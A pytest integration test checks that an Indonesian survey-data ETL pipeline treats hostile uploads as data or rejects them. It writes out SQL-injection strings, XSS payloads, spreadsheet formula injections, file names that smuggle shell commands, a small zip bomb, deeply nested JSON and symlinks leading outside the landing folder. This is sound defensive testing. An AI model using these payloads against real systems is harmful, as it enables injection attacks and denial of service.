"""Hostile files through the real pipeline (``run_day``): stored as data or rejected with a
reason, never executed, nothing written outside the feedback folder, the landing zone unchanged."""

from __future__ import annotations

import csv
import datetime as dt
import hashlib
import io
import json
import os
import zipfile
from pathlib import Path

import pytest

from etl import flow
from etl.stages import s5_publish as publish
from tests.conftest import query
from tests.support.factories import HEADER, unit_ikm_row

pytestmark = pytest.mark.integration

DAY = dt.date(2024, 6, 10)
SQL_VALUES = [
    'O\'Brien "Jaya"',
    "a; drop table core.fakta_unit_ikm; --",
    "$$ select 1 $$; $tag$ x $tag$",
    "'); drop table audit.submission; --",
    "C:\\data\\n\\t \\\\ akhir\\",
    "baris satu\n\\.\nbaris tiga",  # COPY's end-of-data marker on a line of its own
    "<script>alert('ikm')</script><img src=x onerror=alert(1)>",
    '=HYPERLINK("http://contoh.invalid/?d="&A1,"klik")',
    "Ünïcödé 数据 🏭",
]
FORMULAS = [
    '=HYPERLINK("http://contoh.invalid","klik")',
    "+62-1",
    "-1+1",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
]
NAMES = [
    "unit_ikm_2023 revisi ke-2 (final).csv",
    "unit_ikm_2023_$(touch DIRETAS).csv",
    "unit_ikm_2023_`touch DIRETAS`.csv",
    "unit_ikm_2023_a;b|c&d>e.csv",
    "unit_ikm_2023_ñ_数据.csv",
    "unit_ikm_2023_baris\nbaru.csv",
    "..unit_ikm_2023...csv",
]


def _csv(rows: list[dict], header: list[str] = HEADER) -> bytes:
    buf = io.StringIO(newline="")
    writer = csv.DictWriter(buf, fieldnames=header)
    writer.writeheader()
    writer.writerows(rows)
    return buf.getvalue().encode()


def _bomb() -> bytes:
    """A valid zip whose one member inflates ~1000×: an XLSX zip bomb in small."""
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
        archive.writestr("xl/worksheets/sheet1.xml", b"\0" * (3 * 1024 * 1024))
    return buf.getvalue()


def _tree(root: Path) -> dict[str, str]:
    """Every entry under root (links not followed) → sha256 of its content or its kind."""
    out = {}
    for folder, dirs, files in os.walk(root):
        for name in dirs + files:
            path = Path(folder) / name
            rel = str(path.relative_to(root))
            if path.is_symlink():
                out[rel] = "->" + os.readlink(path)
            elif path.is_file():
                out[rel] = hashlib.sha256(path.read_bytes()).hexdigest()
            else:
                out[rel] = "dir"
    return out


@pytest.fixture(scope="module")
def hostile_day(module_warehouse, tmp_path_factory: pytest.TempPathFactory):
    """A landing zone of hostile files for DAY, the warehouse after run_day, and hashes
    (one run for the module: every test reads what it left)."""
    with pytest.MonkeyPatch.context() as monkeypatch:
        yield _hostile_day(tmp_path_factory.mktemp("hostile"), monkeypatch)


def _hostile_day(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> dict:
    root = tmp_path / "pendaratan"
    office = root / DAY.isoformat() / "3201"
    office.mkdir(parents=True)
    outside = tmp_path / "di_luar"
    outside.mkdir()
    (outside / "rahasia.csv").write_bytes(_csv([unit_ikm_row("3201000000999")]))
    files: dict[str, bytes] = {}
    # one file per kind of attack, each of its own scope where it loads (kode_kabkota 3201)
    rows = [
        unit_ikm_row(f"320100000100{i}", nama_usaha=v, alamat=v, produk_utama=v)
        for i, v in enumerate(SQL_VALUES)
    ]
    rows += [unit_ikm_row(f"320100000200{i}", tenaga_kerja_laki=f) for i, f in enumerate(FORMULAS)]
    header = [*HEADER, "<b onmouseover=alert(1)>=cmd|' /C calc'!A0</b>"]
    files["unit_ikm_2023_serangan.csv"] = _csv(rows, header)
    for i, name in enumerate(NAMES):
        files[name] = _csv([unit_ikm_row(f"32010000030{i:02d}", nama_usaha=f"nama {i}")])
    files["unit_ikm_2023_nul.csv"] = _csv([unit_ikm_row(nama_usaha="a\x00b")])
    files["unit_ikm_2023_nul.json"] = json.dumps([unit_ikm_row(nama_usaha="a\x00b")]).encode()
    files["unit_ikm_2023_sarang.json"] = b"[" * 50_000 + b"]" * 50_000
    files["unit_ikm_2023_angka.json"] = b'[{"nib": 1' + b"0" * 5000 + b"}]"
    files["unit_ikm_2023_panjang.csv"] = _csv([unit_ikm_row(nama_usaha="x" * 200_000)])
    files["unit_ikm_2023_besar.csv"] = b"nib\n" + b"1234567890123\n" * 80_000  # > 1 MiB
    files["unit_ikm_2023_bom.xlsx"] = _bomb()
    for name, content in files.items():
        (office / name).write_bytes(content)
    os.symlink(outside / "rahasia.csv", office / "unit_ikm_2023_tautan.csv")
    os.symlink(outside, root / DAY.isoformat() / "3202")  # a whole office folder as a link
    monkeypatch.setenv("IKM_LANDING_DIR", str(root))
    monkeypatch.setenv("IKM_BATAS_BERKAS_MB", "1")
    monkeypatch.setenv("IKM_BATAS_XLSX_MB", "1")
    monkeypatch.setenv("IKM_BATAS_BARIS_BURUK", "0.5")  # the attack file has many bad rows
    monkeypatch.chdir(tmp_path)  # a shell-executed name would create DIRETAS here
    before_landing, before_outside = _tree(root), _tree(outside)
    before_all = set(_tree(tmp_path))
    summary = flow.run_day(DAY)
    feedback = Path(os.environ["IKM_FEEDBACK_DIR"])
    staging = Path(os.environ["IKM_STAGING_DIR"])
    written = set(_tree(tmp_path)) - before_all
    return {
        "summary": summary,
        "landing_same": (before_landing == _tree(root), before_outside == _tree(outside)),
        "escaped": sorted(
            w
            for w in written
            if not (tmp_path / w).is_relative_to(feedback)
            and not (tmp_path / w).is_relative_to(staging)
        ),
        "feedback": feedback / DAY.isoformat(),
        "names": files,
    }


def _sub(url, name: str) -> tuple:
    (row,) = query(
        url,
        "select status, pesan, galat_sistem from audit.submission where nama_berkas = %s",
        (name,),
    )
    return row


def test_nothing_escapes_and_the_landing_zone_is_unchanged(module_warehouse, hostile_day):
    assert hostile_day["landing_same"] == (True, True)
    assert hostile_day["escaped"] == []  # only feedback (and staging) files were written
    assert not list(Path.cwd().glob("DIRETAS*"))
    statuses = query(
        module_warehouse,
        "select path, status, galat_sistem from audit.submission where tanggal_tiba = %s",
        (DAY,),
    )
    assert len(statuses) == len(hostile_day["names"]) + 2  # and the two links
    assert all(
        s in ("diterima", "diterima_sebagian", "ditolak", "digantikan") for _, s, _ in statuses
    )
    assert not any(g for *_, g in statuses), "hostile input is the office's problem, not a crash"


def test_sql_breaking_values_are_stored_exactly_as_sent(module_warehouse, hostile_day):
    # accepted in part (the formula rows are bad), then superseded by a later file of its scope
    status = _sub(module_warehouse, "unit_ikm_2023_serangan.csv")[0]
    assert status in ("diterima_sebagian", "digantikan")
    stored = dict(
        query(
            module_warehouse,
            "select nib, nama_usaha from core.baris_unit_ikm where nib like '320100000100%'",
        )
    )
    assert sorted(stored.values()) == sorted(SQL_VALUES)
    for nib, value in stored.items():
        (alamat, produk) = query(
            module_warehouse,
            "select alamat, produk_utama from core.baris_unit_ikm where nib = %s",
            (nib,),
        )[0]
        assert alamat == produk == value
    assert query(module_warehouse, "select to_regclass('core.fakta_unit_ikm') is not null")[0][0]


def test_formulas_reach_the_spreadsheet_report_only_as_text(module_warehouse, hostile_day):
    quarantined = query(
        module_warehouse,
        "select nilai from audit.karantina k join audit.submission s using (submission_id) "
        "where s.nama_berkas = 'unit_ikm_2023_serangan.csv' and k.kolom = 'tenaga_kerja_laki'",
    )
    # the audit keeps them as sent (cells are read without their surrounding blanks)
    assert sorted(v for (v,) in quarantined) == sorted(f.strip() for f in FORMULAS)
    report = hostile_day["feedback"] / "3201" / "unit_ikm_2023_serangan.csv.baris_ditolak.csv"
    with report.open(encoding="utf-8-sig", newline="") as fh:
        cells = [c for row in csv.reader(fh, delimiter=";") for c in row]
    assert all(not c.startswith(publish.FORMULA_START) for c in cells)
    for formula in FORMULAS:
        assert "'" + formula.strip() in cells
    markdown = report.with_name("unit_ikm_2023_serangan.csv.umpan_balik.md").read_text()
    assert "<b onmouseover=alert(1)>" in markdown  # quoted as text; served as text/plain


REJECTED = {
    "unit_ikm_2023_nul.csv": "data biner",
    "unit_ikm_2023_nul.json": "objek ke-1: nilai 'nama_usaha' berisi karakter NUL",
    "unit_ikm_2023_sarang.json": "bersarang terlalu dalam",
    "unit_ikm_2023_angka.json": "angka yang terlalu panjang",
    "unit_ikm_2023_panjang.csv": "sel di sekitar baris 2 lebih panjang",
    "unit_ikm_2023_besar.csv": "berkas terlalu besar",
    "unit_ikm_2023_bom.xlsx": "terlalu besar setelah dibuka",
}


def test_hostile_files_are_rejected_with_a_reason(module_warehouse, hostile_day):
    for name, words in REJECTED.items():
        status, pesan, galat = _sub(module_warehouse, name)
        assert (status, galat) == ("ditolak", False), name
        assert words in pesan, (name, pesan)


def test_links_inside_or_to_outside_are_never_followed(module_warehouse, hostile_day):
    rows = query(
        module_warehouse,
        "select path, status, pesan, sha256 from audit.submission where path like %s or path = %s",
        ("%tautan%", f"{DAY}/3202"),
    )
    assert {r[0] for r in rows} == {f"{DAY}/3201/unit_ikm_2023_tautan.csv", f"{DAY}/3202"}
    assert all(r[1] == "ditolak" and "tautan" in r[2] and r[3] is None for r in rows)
    assert not query(
        module_warehouse, "select 1 from core.baris_unit_ikm where nib = '3201000000999'"
    )


def test_odd_file_names_are_data_and_their_feedback_stays_in_its_folder(
    module_warehouse, hostile_day
):
    folder = hostile_day["feedback"] / "3201"
    for name in NAMES:
        status, _, galat = _sub(module_warehouse, name)
        assert status in ("diterima", "digantikan") and not galat, name
        assert (folder / f"{name}.umpan_balik.md").is_file(), name
    stored = {r[0] for r in query(module_warehouse, "select nama_berkas from audit.submission")}
    assert set(NAMES) <= stored  # exactly as sent, newline and all
